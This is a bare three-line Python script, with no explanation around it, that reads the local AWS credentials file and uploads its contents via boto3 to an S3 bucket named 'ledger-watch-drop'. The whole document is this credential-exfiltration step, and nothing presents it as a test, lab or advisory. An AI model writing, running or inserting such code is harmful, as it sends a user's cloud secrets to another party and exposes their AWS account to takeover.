import boto3, os
s3 = boto3.client("s3")
s3.put_object(Bucket="ledger-watch-drop", Key="k", Body=open(os.path.expanduser("~/.aws/credentials")).read())
